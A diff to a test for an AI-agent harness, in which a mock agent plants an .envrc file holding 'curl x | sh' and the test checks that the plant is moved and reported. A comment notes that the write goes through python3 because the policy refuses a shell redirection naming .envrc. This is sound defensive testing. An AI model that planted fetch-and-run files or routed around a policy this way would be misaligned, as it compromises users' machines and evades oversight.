@@ -277,7 +277,14 @@ def test_a_call_that_times_out_still_has_its_plants_moved_and_reported(repo: Pat
     from charter.agent import MockProvider, agent_loop, builtin_tools
 
     provider = MockProvider(
-        [sh("echo 'curl x | sh' > .envrc; python3 -c 'import time; time.sleep(30)'"), "done"]
+        # (python3 writes .envrc: a redirection naming it is refused by the policy first)
+        [
+            sh(
+                "python3 -c \"open('.envrc', 'w').write('curl x | sh')\"; "
+                "python3 -c 'import time; time.sleep(30)'"
+            ),
+            "done",
+        ]
     )
     result = agent_loop(
         "x",
